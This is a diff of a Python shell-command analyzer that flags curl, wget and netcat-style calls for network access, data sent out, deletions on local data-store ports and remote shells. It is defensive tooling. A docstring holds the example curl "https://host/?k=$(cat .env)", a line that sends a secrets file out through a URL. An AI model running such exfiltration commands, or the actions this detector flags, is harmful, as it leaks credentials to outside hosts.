@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import re
 
-from detent.shell import options, paths, writing
+from detent.shell import options, sending, writing
 from detent.shell.names import names
 from detent.shell.scope import FETCHED, Arg
 
@@ -22,9 +22,6 @@ _CURL = (
 _WGET = (
     "O output-document P directory-prefix o output-file a append-output post-data post-file body-data body-file "
     "method header U user-agent t tries T timeout i input-file user password e Q w limit-rate l level A R D I X"
-)
-_LOCAL = re.compile(
-    r"(?:https?://)?(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\[?::1\]?|host\.docker\.internal)(?::(\d+))?"
 )
 # Ports on which stores answer: a deletion there loses data, also on this machine.
 _STORES = names("9200 9201 9243 7700 8108 6333 8983 5984 15672 2379 8500 8200 8086 9000 8529 7474 8080")
@@ -54,11 +51,15 @@ def _curl(call: Call) -> None:
     for address in addresses or [Arg("")]:
         call.add("reaches_network", target=address)
     target = str(addresses[0]) if addresses else ""
+    _in_address(call, addresses)
     sent = found.all("d", "data-binary", "data-urlencode", "data-ascii", "json", "F", "form")
     for word in sent:
         _sent(call, word, target)
     for word in found.all("T", "upload-file"):
-        call.add_file("sends", word, detail=target)
+        if word in ("-", "."):
+            sending.stdin(call, target)
+        else:
+            call.add_file("sends", word, detail=target)
     _deletes(call, str(found.value("X") or ""), target)
     _stored(call, found, addresses)
 
@@ -67,32 +68,26 @@ def _sent(call: Call, word: Arg, target: str) -> None:
     """`-d @file`, `-F name=@file`, `-d @-`."""
     sign = re.match(r"(?:[^=@]*=)?[@<](.+)", word, re.DOTALL)
     if sign is None:
-        if re.search(r"\$\{?\w|\$\(|`", word.raw):
-            call.add("sends", target=word.raw, detail=target)
+        sending.text(call, word, target)
         return
     name = sign.group(1).partition(";")[0]
     if name == "-":
-        _sent_input(call, target)
+        sending.stdin(call, target)
     else:
         call.add_file("sends", Arg(name, word.raw), detail=target)
 
 
-def _sent_input(call: Call, target: str) -> None:
-    """What it is fed: the files that were read for it in the same statement."""
-    run = call.scope.run
-    read = [effect for effect in run.effects[run.started :] if effect.kind == "reads"]
-    for effect in read[:20]:
-        call.add_place("sends", effect.target, paths.Place(effect.path, effect.extent), detail=target)
-    if run.environment:
-        call.add("sends", target="environment", detail=target)
-    elif not read:
-        call.add("sends", target="stdin", detail=target)
+def _in_address(call: Call, addresses: list[Arg]) -> None:
+    """`curl "https://host/?k=$(cat .env)"`."""
+    for address in addresses:
+        if "$(" in address.raw or "`" in address.raw:
+            sending.said(call, str(address))
 
 
 def _deletes(call: Call, method: str, target: str) -> None:
     if method.upper() != "DELETE" and not (method.upper() in ("POST", "PUT", "") and _DELETING.search(target)):
         return
-    local = _LOCAL.match(target)
+    local = sending.LOCAL.match(target)
     if local and local.group(1) not in _STORES:
         return
     if (
@@ -120,6 +115,9 @@ def _wget(call: Call) -> None:
     for address in found.operands:
         call.add("reaches_network", target=address)
     target = str(found.operands[0]) if found.operands else ""
+    _in_address(call, found.operands)
+    for word in found.all("post-data", "body-data"):
+        sending.text(call, word, target)
     for word in found.all("post-file", "body-file"):
         call.add_file("sends", word, detail=target)
     _deletes(call, str(found.value("method") or ""), target)
@@ -161,7 +159,7 @@ def _raw(call: Call) -> None:
     if runs and call.name != "telnet" and not {"-z", "-zv", "-vz"} & set(words):
         call.add("executes_fetched", detail="a shell for whoever connects")
     elif call.stdin:
-        _sent_input(call, str(operands[0]) if operands else "")
+        sending.stdin(call, str(operands[0]) if operands else "")
 
 
 def _httpie(call: Call) -> None:
